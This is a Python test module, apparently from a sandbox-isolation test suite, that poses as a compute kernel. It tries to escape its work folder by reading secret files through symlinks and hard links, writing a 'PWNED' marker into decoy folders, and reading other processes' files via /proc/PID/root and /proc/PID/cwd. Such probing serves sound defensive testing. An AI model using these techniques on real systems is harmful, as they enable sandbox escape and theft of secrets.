"""Attack: from the work folder, reach outside paths through symlinks and
hard links: read the secret files, write into a decoy folder, and reach the
parent's root and working folder through /proc/PID/root and /proc/PID/cwd."""
# @@PRELUDE@@
import shutil


@nki.jit
def kernel(x):
    wd = work_dir()
    if not wd:
        R.note("no writable work folder")
        R.finish()
    base = os.path.join(wd, "sectest-links-%d" % os.getpid())
    os.makedirs(base, exist_ok=True)
    try:
        _attack(base)
    finally:
        shutil.rmtree(base, ignore_errors=True)
    R.finish()


def _attack(base):
    for i, p in enumerate(CONFIG["secret_files"]):
        link = os.path.join(base, "s%d" % i)
        try:
            os.symlink(p, link)
            R.leak("read %s through a symlink: %s" % (p, find_secret(read_file(link)) or "?"))
        except OSError as ex:
            R.note("symlink read %s" % oserr(ex))
        hard = os.path.join(base, "h%d" % i)
        try:
            os.link(p, hard)
            R.leak("hard-linked %s: %s" % (p, find_secret(read_file(hard)) or "?"))
        except OSError as ex:
            R.note("hard link %s" % oserr(ex))
    for i, d in enumerate(CONFIG["decoy_dirs"]):
        link = os.path.join(base, "d%d" % i)
        try:
            os.symlink(d, link)
            with open(os.path.join(link, "sectest-via-symlink"), "w") as f:
                f.write("PWNED")
            R.leak("wrote into %s through a symlink" % d)
        except OSError as ex:
            R.note("symlink write %s" % oserr(ex))
    for pid in outside_pids():
        for via in ("root", "cwd"):
            for p in CONFIG["secret_files"]:
                q = "/proc/%d/%s%s" % (pid, via, p if via == "root" else "/" + os.path.basename(p))
                try:
                    R.leak("read %s: %s" % (q, find_secret(read_file(q)) or "?"))
                except OSError as ex:
                    R.note("%s/%s %s" % (pid, via, oserr(ex)))
                    break
